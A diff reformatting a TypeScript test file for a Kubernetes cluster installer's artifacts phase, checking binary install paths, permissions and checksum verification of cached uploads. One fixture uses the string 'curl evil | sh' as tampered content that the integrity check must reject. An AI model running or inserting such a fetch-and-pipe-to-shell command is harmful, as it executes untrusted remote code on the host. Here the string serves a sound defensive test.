@@ -42,7 +42,15 @@ describe('the artifacts phase', () => {
     mkdirSync(join(out, 'amd64'), { recursive: true });
     const names = [...new Set(spec.hosts.flatMap((h) => binariesForRoles(h.roles, spec.versions)))];
     const artifacts = names.map((name) => {
-      const project = ['etcd', 'etcdctl', 'etcdutl'].includes(name) ? 'etcd' : ['flanneld'].includes(name) ? 'flannel' : ['flannel'].includes(name) ? 'flannel-cni-plugin' : ['bridge', 'host-local', 'loopback', 'portmap'].includes(name) ? 'cni-plugins' : 'kubernetes';
+      const project = ['etcd', 'etcdctl', 'etcdutl'].includes(name)
+        ? 'etcd'
+        : ['flanneld'].includes(name)
+          ? 'flannel'
+          : ['flannel'].includes(name)
+            ? 'flannel-cni-plugin'
+            : ['bridge', 'host-local', 'loopback', 'portmap'].includes(name)
+              ? 'cni-plugins'
+              : 'kubernetes';
       const content = `${name} binary`;
       writeFileSync(join(out, 'amd64', name), content);
       return { component: name, version: spec.versions[project].tag, arch: 'amd64', file: `amd64/${name}`, sha256: sha256(content) };
@@ -51,7 +59,7 @@ describe('the artifacts phase', () => {
     return out;
   }
 
-  it('installs each role\'s binaries from the bundle, 0755 in BIN_PATH (CNI plugins in /opt/cni/bin), restarting their daemon', async () => {
+  it("installs each role's binaries from the bundle, 0755 in BIN_PATH (CNI plugins in /opt/cni/bin), restarting their daemon", async () => {
     const { dir, spec, ctx, facts } = cluster('BIN_PATH=/usr/local/kube\n');
     const phase = artifactsPhase(new RunArtifacts({ bundleDir: bundle(dir, spec), cacheDir: join(dir, 'cache') }));
     expect(await phase.prepare!(ctx)).toEqual([]);
@@ -61,11 +69,26 @@ describe('the artifacts phase', () => {
     };
     const worker = resourcesOf('w1');
     expect(worker.map((r) => r.path)).toEqual([
-      '/usr/local/kube/kubelet', '/usr/local/kube/kube-proxy', '/usr/local/kube/kubectl', '/usr/local/kube/flanneld',
-      '/opt/cni/bin/flannel', '/opt/cni/bin/bridge', '/opt/cni/bin/host-local', '/opt/cni/bin/loopback', '/opt/cni/bin/portmap',
+      '/usr/local/kube/kubelet',
+      '/usr/local/kube/kube-proxy',
+      '/usr/local/kube/kubectl',
+      '/usr/local/kube/flanneld',
+      '/opt/cni/bin/flannel',
+      '/opt/cni/bin/bridge',
+      '/opt/cni/bin/host-local',
+      '/opt/cni/bin/loopback',
+      '/opt/cni/bin/portmap',
     ]);
     const kubelet = worker[0]!;
-    expect(kubelet).toMatchObject({ kind: 'localFile', mode: 0o755, owner: 'root', group: 'root', restarts: ['kubelet'], label: 'kubelet v1.37.2', record: { component: 'kubelet', version: 'v1.37.2' } });
+    expect(kubelet).toMatchObject({
+      kind: 'localFile',
+      mode: 0o755,
+      owner: 'root',
+      group: 'root',
+      restarts: ['kubelet'],
+      label: 'kubelet v1.37.2',
+      record: { component: 'kubelet', version: 'v1.37.2' },
+    });
     expect(kubelet.source).toMatchObject({ sha256: sha256('kubelet binary'), size: 14, transfer: { codec: 'gzip' } });
     expect(worker.find((r) => r.path.endsWith('/portmap'))!.restarts).toEqual([]);
     expect(resourcesOf('e1').map((r) => r.path.split('/').at(-1))).toEqual(['etcd', 'etcdctl', 'etcdutl']);
@@ -97,7 +120,9 @@ describe('the artifacts phase', () => {
     expect(await next.prepare!(ctx)).toEqual([]);
     const uploads = uploadsOf(next);
     expect(uploads.find((u) => u.path.endsWith('/kubelet'))!.transfer.file).toBe(encoded);
-    await expect(next.beforeUpload!(uploads)).rejects.toThrow(`${encoded} is not what was checked: it must hold sha256 ${sha256('kubelet binary')}, but decodes (gzip) to sha256 ${sha256('curl evil | sh')}`);
+    await expect(next.beforeUpload!(uploads)).rejects.toThrow(
+      `${encoded} is not what was checked: it must hold sha256 ${sha256('kubelet binary')}, but decodes (gzip) to sha256 ${sha256('curl evil | sh')}`,
+    );
     await expect(next.beforeUpload!(uploads.filter((u) => !u.path.endsWith('/kubelet')))).resolves.toBeUndefined();
   });
 
